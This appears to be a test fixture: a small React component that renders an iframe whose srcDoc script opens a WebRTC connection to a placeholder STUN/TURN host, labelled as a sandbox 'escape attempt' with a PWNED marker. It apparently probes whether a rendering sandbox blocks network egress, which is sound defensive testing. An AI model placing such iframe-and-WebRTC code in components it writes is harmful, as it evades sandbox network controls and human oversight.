import { useEffect } from "react";

// Escape attempt: webrtc_jsx_srcdoc — React renders an iframe whose srcDoc runs WebRTC in its own realm
const SCRIPT = '<script>const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_jsx_srcdoc", credential: "c" }] }); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));</' + 'script>';
export default function Hostile() {
  useEffect(() => {}, []);
  return (
    <div>
      <p data-testid="hostile">webrtc_jsx_srcdoc</p>
      <iframe srcDoc={SCRIPT} title="x" />
    </div>
  );
}
